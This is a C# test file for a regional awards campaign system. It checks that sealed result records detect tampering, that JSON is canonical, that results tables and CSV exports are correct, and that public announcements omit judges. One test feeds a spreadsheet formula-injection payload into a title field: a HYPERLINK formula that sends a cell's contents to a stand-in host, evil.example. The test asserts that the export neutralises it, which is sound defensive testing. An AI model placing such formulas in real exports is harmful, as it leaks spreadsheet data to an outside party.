using Campaign.Awards.Allocation;
using Campaign.Awards.Reporting;
using Campaign.Awards.Sealing;
using Campaign.Campaigns;
using Campaign.Contracts.Awards;
using Campaign.Contracts.Engagement;
using Campaign.Contracts.Judging;

namespace Campaign.Awards.Tests;

/// <summary>The sealed record and the results table: every component, the same bytes each time, and any change after sealing seen.</summary>
public sealed class SealingResults
{
    private static readonly CampaignDefinition Liaoning = CampaignCatalog.LoadDefault();
    private static readonly DateTimeOffset Now = DateTimeOffset.Parse("2021-07-20T00:00:00Z");

    /// <summary>A story category recorded up to its allocation and seal, as the recorder records it.</summary>
    private static List<object> Record()
    {
        var ids = Enumerable.Range(0, 3).Select(i => Guid.Parse($"00000000-0000-7000-8000-00000000000{i}")).ToList();
        var events = new List<object>();
        for (var i = 0; i < ids.Count; i++)
        {
            events.Add(new EntryListed(ids[i], i == 0 ? "dalian" : "anshan", $"故事{i}", "organization", [$"劳模{i}"], Now));
            events.Add(new EntryJudged(ids[i], "liaoning-2021", "story", i == 0 ? "dalian" : "anshan",
                [new JudgeScore("judge-2", 90 - i), new JudgeScore("judge-1", 80.5m - i)], 85.25m - i, "mean", Now));
            events.Add(new EngagementScored(ids[i], "liaoning-2021", "story", new Dictionary<string, long> { ["views"] = 100, ["likes"] = 7 }, 40 + i, "v2", Now));
        }
        events.Add(new JudgingClosed("liaoning-2021", "story", ids, "o", Now));
        foreach (var e in AwardAllocation.Record(Liaoning, CategoryResults.From(events), new EngagementClosed("liaoning-2021", "story", ids, "o", Now, "v2"),
                     Guid.Parse("00000000-0000-7000-8000-0000000000aa"), Now))
            events.Add(e);
        events.Add(ResultsRecord.Seal("liaoning-2021", "story", events, ((AwardsAllocated)events[^1]).AllocationId, Now));
        return events;
    }

    [Fact]
    public void The_seal_matches_its_record_and_any_change_drop_or_reordering_before_it_breaks_it()
    {
        var events = Record();
        Assert.True(Assert.Single(ResultsRecord.Check("liaoning-2021", "story", events)).Intact);

        var changed = events.ToList();
        var judged = (EntryJudged)changed[1];
        changed[1] = judged with { JudgesScore = judged.JudgesScore + 0.01m };
        Assert.False(Assert.Single(ResultsRecord.Check("liaoning-2021", "story", changed)).Intact);

        var dropped = events.Where((_, i) => i != 2).ToList();
        Assert.False(Assert.Single(ResultsRecord.Check("liaoning-2021", "story", dropped)).Intact);

        var swapped = events.ToList();
        (swapped[0], swapped[1]) = (swapped[1], swapped[0]);
        Assert.False(Assert.Single(ResultsRecord.Check("liaoning-2021", "story", swapped)).Intact);

        // Another category's seed: the same events do not seal another category's results.
        Assert.False(Assert.Single(ResultsRecord.Check("liaoning-2021", "video", events)).Intact);
    }

    [Fact]
    public void Canonical_json_orders_keys_so_a_dictionary_read_back_in_another_order_gives_the_same_bytes()
    {
        var a = new EngagementScored(Guid.Empty, "c", "k", new Dictionary<string, long> { ["views"] = 1, ["likes"] = 2 }, 50.50m, "v", Now);
        var b = a with { Figures = new Dictionary<string, long> { ["likes"] = 2, ["views"] = 1 } };
        Assert.Equal(ResultsRecord.Canonical(a), ResultsRecord.Canonical(b));
        Assert.Contains("\"figures\":{\"likes\":2,\"views\":1}", ResultsRecord.Canonical(a));
        Assert.Contains("50.50", ResultsRecord.Canonical(a));
        Assert.NotEqual(ResultsRecord.Canonical(a), ResultsRecord.Canonical(a with { Score = 50.5m + 0.001m }));
    }

    [Fact]
    public void J3_A1_the_table_shows_every_component_and_the_csv_has_a_column_per_judge()
    {
        var table = ResultsTable.Of(Liaoning, CategoryResults.From(Record()))!;
        var first = table.Rows[0];
        Assert.Equal(("故事0", "大连市总工会", 85.25m, 40m), (first.Title, first.OrganizationName, first.JudgesScore, first.EngagementScore));
        Assert.Equal(["劳模0"], first.Authors);
        Assert.Equal([90m, 80.5m], first.JudgeScores.Select(s => s.Score));
        Assert.Equal("v2", table.FormulaVersion);
        Assert.Equal(Math.Round(0.7m * 85.25m + 0.3m * 40, 2, MidpointRounding.AwayFromZero), first.FinalScore);
        Assert.Equal(["judge-1", "judge-2"], table.Judges);
        Assert.NotNull(table.SealDigest);

        var csv = table.ToCsv();
        Assert.Equal([0xEF, 0xBB, 0xBF], csv[..3]);
        var lines = System.Text.Encoding.UTF8.GetString(csv[3..]).TrimEnd().Split("\r\n");
        Assert.Equal(4, lines.Length);
        Assert.StartsWith("rank,entry_id,title,authors,organization_id,organization,region,judge:judge-1,judge:judge-2,judges_mean,aggregate,engagement_score,formula_version,final_score,tier_id", lines[0]);
        Assert.Contains(",故事0,劳模0,dalian,大连市总工会,dalian,80.5,90,85.25,mean,40,v2,", lines[1]);
        Assert.Equal(table.ToCsv(), ResultsTable.Of(Liaoning, CategoryResults.From(Record()))!.ToCsv());
    }

    [Fact]
    public void The_csv_writes_a_submitters_formula_as_text_so_a_spreadsheet_does_not_run_it()
    {
        var table = ResultsTable.Of(Liaoning, CategoryResults.From(Record()))!;
        var formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"详情\")";
        var tampered = table with { Rows = [table.Rows[0] with { Title = formula, Authors = ["@SUM(1+1)"] }] };

        var row = System.Text.Encoding.UTF8.GetString(tampered.ToCsv()[3..]).Split("\r\n")[1];
        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"详情\"\")\"", row);
        Assert.Contains("'@SUM(1+1)", row);
    }

    [Fact]
    public void The_public_announcement_names_only_winners_and_no_judge()
    {
        var results = CategoryResults.From(Record());
        var announced = PublicResults.Of(Liaoning, results, english: false)!;
        Assert.Equal(results.Allocated!.Results.Count(r => r.TierId is not null), announced.Winners.Count);
        Assert.DoesNotContain("judge-1", ResultsRecord.Canonical(announced));
        Assert.Equal(results.Seal!.Digest, announced.SealDigest);
    }
}
